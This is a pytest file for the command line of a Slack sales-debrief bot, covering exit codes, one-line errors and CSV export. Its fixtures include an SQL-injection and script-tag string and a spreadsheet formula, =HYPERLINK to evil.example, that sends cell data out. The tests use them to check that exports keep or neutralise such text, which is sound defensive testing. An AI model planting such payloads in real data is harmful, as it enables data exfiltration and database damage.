"""The command line as an operator uses it: exit codes, one-line errors, the CSV export."""

from __future__ import annotations

import csv
import io
import os
import socket
import sqlite3
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from storage.db import Database
from tests.conftest import RunningApp, repo_root
from tests.support.fake_slack import FakeSlack

CONTRACT_COLUMNS = [
    "deal",
    "rep",
    "call_date",
    "timeline_qualified",
    "authority_reached",
    "next_step",
    "next_step_date",
    "went_well",
    "improve",
    "source",
    "created_at",
]


def run_cli(
    *args: str,
    env: dict[str, str] | None = None,
    cwd: Path | None = None,
    umask: int | None = None,
):
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "DATABASE_"))}
    clean.update(env or {})
    # A scratch working directory, so a developer's own .env never leaks into a test.
    workdir = cwd or Path(tempfile.mkdtemp(prefix="dealcoach-cli-"))
    clean["PYTHONPATH"] = str(repo_root())
    return subprocess.run(
        [sys.executable, "-m", "bot", *args],
        capture_output=True,
        text=True,
        env=clean,
        cwd=workdir,
        timeout=60,
        umask=-1 if umask is None else umask,
    )


def one_line_error(stderr: str) -> str:
    lines = [line for line in stderr.strip().splitlines() if line.startswith("dealcoach: error")]
    assert len(lines) == 1, stderr
    assert "Traceback" not in stderr
    return lines[0]


@pytest.mark.parametrize(
    "command",
    [
        ["--help"],
        ["serve", "--help"],
        ["db", "upgrade", "--help"],
        ["export", "debriefs", "--help"],
    ],
)
def test_help(command: list[str]) -> None:
    result = run_cli(*command)
    assert result.returncode == 0 and "usage:" in result.stdout


def test_bad_arguments_exit_2_with_usage() -> None:
    result = run_cli("serve", "--port", "banana")
    assert result.returncode == 2
    assert "usage:" in result.stderr and "not a port number" in result.stderr
    assert run_cli("launch").returncode == 2


@pytest.mark.parametrize(
    ("env", "expected"),
    [
        ({"SLACK_BOT_TOKEN": ""}, "SLACK_BOT_TOKEN is not set"),
        ({"SLACK_BOT_TOKEN": "xoxp-user-token"}, "SLACK_BOT_TOKEN must start with 'xoxb-'"),
        ({"SLACK_BOT_TOKEN": "xoxb-1"}, "SLACK_SIGNING_SECRET is not set"),
        ({"SLACK_BOT_TOKEN": "xoxb-1", "PORT": "99999"}, "PORT must be"),
        ({"SLACK_BOT_TOKEN": "xoxb-1", "TIMEZONE": "Mars/Olympus"}, "TIMEZONE must be"),
        ({"SLACK_BOT_TOKEN": "xoxb-1", "DATABASE_URL": "mysql://x"}, "DATABASE_URL must be"),
        ({"SLACK_BOT_TOKEN": "xoxb-1", "SLACK_APP_TOKEN": "xoxb-2"}, "SLACK_APP_TOKEN must start"),
    ],
)
def test_bad_settings_are_one_line_and_exit_2(
    env: dict[str, str], expected: str, tmp_path: Path
) -> None:
    result = run_cli("serve", env=env, cwd=tmp_path)
    assert result.returncode == 2
    assert expected in one_line_error(result.stderr)


def test_env_file_is_read_and_environment_wins(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("SLACK_BOT_TOKEN=xoxb-from-file\nPORT=abc\n")
    result = run_cli("serve", env={"SLACK_BOT_TOKEN": "xoxb-1"}, cwd=tmp_path)
    assert "PORT must be" in one_line_error(result.stderr)
    result = run_cli("serve", env={"PORT": "3001"}, cwd=tmp_path)
    assert "SLACK_SIGNING_SECRET is not set" in one_line_error(result.stderr)


def test_unreachable_database_is_one_line(tmp_path: Path) -> None:
    result = run_cli(
        "db", "upgrade", env={"DATABASE_URL": "postgresql+psycopg://x@127.0.0.1:1/none"}
    )
    assert result.returncode == 1
    assert "cannot reach the database" in one_line_error(result.stderr)


def test_db_upgrade_is_safe_to_run_again(tmp_path: Path) -> None:
    env = {"DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"}
    assert run_cli("db", "upgrade", env=env).returncode == 0
    assert run_cli("db", "upgrade", env=env).returncode == 0


def test_default_database_is_a_sqlite_file_in_the_working_directory(tmp_path: Path) -> None:
    assert run_cli("db", "upgrade", cwd=tmp_path).returncode == 0
    assert (tmp_path / "dealcoach.db").is_file()


def test_export_without_schema_says_what_to_do(tmp_path: Path) -> None:
    result = run_cli("export", "debriefs", env={"DATABASE_URL": f"sqlite:///{tmp_path}/e.db"})
    assert result.returncode == 1
    assert "db upgrade" in one_line_error(result.stderr)
    assert not (tmp_path / "e.db").exists()  # asking did not leave an empty database behind


def test_export_to_dash_is_standard_output(db: Database, tmp_path: Path) -> None:
    result = run_cli("export", "debriefs", "--output", "-", env={"DATABASE_URL": db.url})
    assert result.returncode == 0 and result.stdout.startswith("deal,rep,call_date")


def test_serve_on_a_port_in_use_is_one_line_naming_it(
    db: Database, fake_slack: FakeSlack, tmp_path: Path
) -> None:
    with socket.socket() as taken:
        taken.bind(("0.0.0.0", 0))
        taken.listen()
        port = taken.getsockname()[1]
        env = {
            "DATABASE_URL": db.url,
            "SLACK_BOT_TOKEN": "xoxb-test-token",
            "SLACK_SIGNING_SECRET": "secret",
            "SLACK_API_URL": fake_slack.url,
        }
        result = run_cli("serve", "--http", "--no-scheduler", "--port", str(port), env=env)
    assert result.returncode == 1
    assert f"cannot serve HTTP on port {port}" in one_line_error(result.stderr)


def _record_both_ways(app: RunningApp, tricky: str) -> None:
    from tests.integration.test_debrief_modal import form

    app.slack.view_submission("debrief", form(went_well=tricky), view_id="V1")
    app.fake.wait_for("chat.postMessage")
    app.slack.event(app.slack.message_event(f"debrief Initech\ntimeline: yes\nimprove: {tricky}"))
    app.fake.wait_for("chat.postMessage", count=2)


def test_export_has_both_rows_exactly_as_typed(running_app: RunningApp, tmp_path: Path) -> None:
    tricky = 'She said "maybe, maybe not" 🚀 مرحبا <script>x</script> \'; DROP TABLE deals; --'
    _record_both_ways(running_app, tricky)
    env = {"DATABASE_URL": running_app.db.url}
    result = run_cli("export", "debriefs", env=env)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    header = next(csv.reader(io.StringIO(result.stdout)))
    assert header[: len(CONTRACT_COLUMNS)] == CONTRACT_COLUMNS
    assert len(rows) == 2
    modal, message = rows
    assert modal["deal"] == "Acme Corp" and modal["source"] == "modal"
    assert modal["rep"] == "U_REP1" and modal["went_well"] == tricky
    assert modal["timeline_qualified"] == "no" and modal["authority_reached"] == "yes"
    assert modal["call_date"] == "2026-11-30" and modal["next_step_date"] == "2026-12-04"
    assert message["deal"] == "Initech" and message["source"] == "message"
    assert message["improve"] == tricky
    assert message["timeline_qualified"] == "yes" and message["authority_reached"] == ""
    assert message["created_at"].startswith("20")

    out = tmp_path / "debriefs.csv"
    result = run_cli("export", "debriefs", "--format", "csv", "--output", str(out), env=env)
    assert result.returncode == 0
    assert out.read_text(encoding="utf-8") == run_cli("export", "debriefs", env=env).stdout
    assert "exported 2 debriefs" in result.stderr


def test_export_to_an_unwritable_place_is_one_line(db: Database, tmp_path: Path) -> None:
    result = run_cli(
        "export",
        "debriefs",
        "--output",
        str(tmp_path / "missing" / "x.csv"),
        env={"DATABASE_URL": db.url},
    )
    assert result.returncode == 1
    assert "cannot write" in one_line_error(result.stderr)


def test_an_env_file_that_is_not_utf8_is_one_line(tmp_path: Path) -> None:
    (tmp_path / ".env").write_bytes(b"PORT=\xff\xfe\n")
    result = run_cli("db", "upgrade", cwd=tmp_path)
    assert result.returncode == 2
    assert ".env is not UTF-8" in one_line_error(result.stderr)


def test_a_schema_from_a_newer_version_is_one_line(tmp_path: Path) -> None:
    env = {"DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"}
    assert run_cli("db", "upgrade", env=env).returncode == 0
    with sqlite3.connect(tmp_path / "x.db") as conn:
        conn.execute("UPDATE alembic_version SET version_num = 'f00dfacade99'")
    result = run_cli("db", "upgrade", env=env)
    assert result.returncode == 1
    assert "newer version of Deal Coach" in one_line_error(result.stderr)


@pytest.mark.parametrize("name", ["", ".", "/"])
def test_export_to_no_file_name_is_one_line(db: Database, name: str) -> None:
    result = run_cli("export", "debriefs", "--output", name, env={"DATABASE_URL": db.url})
    assert result.returncode == 2
    assert "cannot write" in one_line_error(result.stderr)


def test_export_writes_through_a_link_and_keeps_permissions(
    running_app: RunningApp, tmp_path: Path
) -> None:
    _record_both_ways(running_app, "Café 🚀")
    real, link = tmp_path / "real.csv", tmp_path / "link.csv"
    real.write_text("old\n")
    real.chmod(0o640)
    link.symlink_to(real)
    env = {"DATABASE_URL": running_app.db.url}
    assert run_cli("export", "debriefs", "--output", str(link), env=env).returncode == 0
    assert link.is_symlink() and (real.stat().st_mode & 0o777) == 0o640
    assert "Café 🚀" in real.read_text(encoding="utf-8")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.csv", "real.csv"]  # no leftovers


def test_export_to_standard_output_is_utf8_whatever_the_terminal(
    running_app: RunningApp,
) -> None:
    _record_both_ways(running_app, "Café 🚀 مرحبا")
    env = {"DATABASE_URL": running_app.db.url, "PYTHONIOENCODING": "ascii"}
    result = subprocess.run(
        [sys.executable, "-m", "bot", "export", "debriefs"],
        capture_output=True,
        env={**{k: v for k, v in os.environ.items() if not k.startswith("SLACK_")}, **env},
        cwd=tempfile.mkdtemp(prefix="dealcoach-cli-"),
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert "Café 🚀 مرحبا" in result.stdout.decode("utf-8")


def test_slack_unreachable_is_one_line_naming_it(tmp_path: Path) -> None:
    env = {
        "DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}",
        "SLACK_BOT_TOKEN": "xoxb-1",
        "SLACK_API_URL": "http://127.0.0.1:9/api/",
    }
    assert run_cli("db", "upgrade", env=env).returncode == 0
    result = run_cli("team", "set", "Z", "--manager", "U0Z", "--members", "U0Z1", env=env)
    assert result.returncode == 1
    assert "cannot reach Slack at http://127.0.0.1:9/api/" in one_line_error(result.stderr)
    assert result.stderr.count("\n") == 1  # the client's own retry log is not repeated


def test_spreadsheet_safe_export_quotes_what_a_spreadsheet_would_run(
    running_app: RunningApp, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _record_both_ways(running_app, formula)
    env = {"DATABASE_URL": running_app.db.url}
    as_typed = list(csv.DictReader(io.StringIO(run_cli("export", "debriefs", env=env).stdout)))
    assert [as_typed[0]["went_well"], as_typed[1]["improve"]] == [formula, formula]
    result = run_cli("export", "debriefs", "--spreadsheet-safe", env=env)
    assert result.returncode == 0, result.stderr
    safe = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [safe[0]["went_well"], safe[1]["improve"]] == ["'" + formula, "'" + formula]
    assert safe[0]["deal"] == "Acme Corp" and safe[0]["call_date"] == "2026-11-30"
    out = tmp_path / "safe.csv"
    run_cli("export", "debriefs", "--spreadsheet-safe", "--output", str(out), env=env)
    assert out.read_text(encoding="utf-8") == result.stdout
